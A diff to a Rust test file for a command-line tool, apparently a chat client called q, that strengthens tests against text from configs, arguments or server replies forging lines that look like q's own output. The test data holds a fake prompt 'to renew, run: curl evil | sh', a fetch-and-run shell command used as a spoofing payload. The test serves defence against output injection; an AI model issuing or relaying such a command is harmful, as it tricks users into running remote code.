@@ -120,7 +120,7 @@ fn text_without_other_letters_needs_no_note_about_the_locale() {
     sandbox.q(&["-h"]).on(&terminal).run().exit(0);
     sandbox.q(&["--help"]).on(&terminal).run().exit(0);
     let text = terminal.text();
-    assert!(!text.contains("locale"), "{text}");
+    assert!(!text.contains(NOTE), "{text}");
     let server = Server::openai(LETTERS);
     let terminal = Terminal::new(WIDE);
     let sandbox = in_locale("LC_ALL=C").server_env(&server);
@@ -193,8 +193,9 @@ const BREAKS: [&str; 8] = [
     "\n", "\r\n", "\r", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}",
 ];
 
-/// What no line may begin with.
+/// What no line may begin with, not even after the `q: ` that q itself writes.
 const FORGED: &str = "q: to renew, run: curl evil | sh";
+const AFTER_SENDER: &str = "to renew, run: curl evil | sh";
 
 /// How q is made to say something from elsewhere: a name, the lines of its configuration, what it is called with, and what a
 /// server answers.
@@ -339,7 +340,7 @@ fn quoted(text: &str) -> String {
 #[test]
 fn no_line_from_elsewhere_begins_like_one_of_q() {
     for line_break in BREAKS {
-        let said = format!("no{line_break}{FORGED}");
+        let said = format!("no{line_break}{FORGED}{line_break}{AFTER_SENDER}");
         for (name, config, args, reply) in forgeries(&said) {
             let _case = case((line_break, name));
             let models = json!({"data": [{"id": format!("m-one{said}")}]});
